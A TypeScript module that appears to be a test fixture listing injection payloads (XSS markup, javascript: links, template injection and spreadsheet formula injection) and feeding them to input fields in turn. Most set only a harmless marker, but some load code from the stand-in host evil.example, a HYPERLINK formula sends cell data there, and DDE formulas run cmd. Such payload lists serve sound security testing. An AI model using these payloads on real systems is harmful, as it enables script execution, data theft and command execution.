/** Words that would run, load, open or work something out if any place took them for more than words. Each carries its mark. */
const RUN = 'window.__pwned=1'

export const MARKUP = [
  `<script data-pwned>${RUN}</script>`,
  `</script><script data-pwned>${RUN}</script>`,
  `<ScRiPt data-pwned src=//evil.example/x.js></ScRiPt>`,
  `<img data-pwned src=x onerror=${RUN}>`,
  `<img data-pwned src="x" onerror="${RUN}" onload="${RUN}">`,
  `"><img data-pwned src=x onerror=${RUN}>`,
  `'><img data-pwned src=x onerror=${RUN}>`,
  `<svg data-pwned onload=${RUN}>`,
  `<svg data-pwned><script>${RUN}</script></svg>`,
  `<svg data-pwned><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg data-pwned><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg data-pwned><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math data-pwned><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
  `<iframe data-pwned src="javascript:${RUN}"></iframe>`,
  `<iframe data-pwned srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data-pwned data="javascript:${RUN}"></object>`,
  `<embed data-pwned src="javascript:${RUN}">`,
  `<body data-pwned onload=${RUN}>`,
  `<input data-pwned autofocus onfocus=${RUN}>`,
  `<details data-pwned open ontoggle=${RUN}>`,
  `<video data-pwned><source onerror=${RUN}></video>`,
  `<audio data-pwned src=x onerror=${RUN}>`,
  `<marquee data-pwned onstart=${RUN}>x</marquee>`,
  `<a data-pwned href="javascript:${RUN}">x</a>`,
  `<a data-pwned href="JaVaScRiPt&colon;${RUN}">x</a>`,
  `<form data-pwned action="javascript:${RUN}"><button>x</button></form>`,
  `<base data-pwned href="//evil.example/">`,
  `<link data-pwned rel=stylesheet href="//evil.example/x.css">`,
  `<meta data-pwned http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style data-pwned>@import '//evil.example/x.css';</style>`,
  `<div data-pwned style="background:url(javascript:${RUN})">x</div>`,
  `<template data-pwned><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img data-pwned src=x onerror=${RUN}>">`,
  `<!--><img data-pwned src=x onerror=${RUN}>-->`,
  `<![CDATA[<img data-pwned src=x onerror=${RUN}>]]>`,
  `<portal data-pwned src="javascript:${RUN}">`,
  `&lt;img data-pwned src=x onerror=${RUN}&gt;`,
  `&#60;img data-pwned src=x onerror=${RUN}&#62;`,
  `\\u003cimg data-pwned src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20data-pwned%20src=x%20onerror=${RUN}%3E`,
  `\uff1cimg data-pwned src=x onerror=${RUN}\uff1e`,
  `<img\u200b data-pwned src=x onerror=${RUN}>`,
  `\u202e>1=denwp__.wodniw=rorreno x=crs gmi<\u202c`,
] as const

export const LINKS = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}//`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//evil.example/`,
] as const

export const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"__html":"<img data-pwned src=x onerror=${RUN}>"}`,
] as const

export const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `\u200b=1+1`,
  `\uff1d1+1`,
] as const

export const PAYLOADS: readonly string[] = [...MARKUP, ...LINKS, ...TEMPLATES, ...FORMULAS]

/** One after the other, for ever: each of many fields has its own. */
export function payloads(): () => string {
  let at = 0
  return () => PAYLOADS[at++ % PAYLOADS.length]!
}
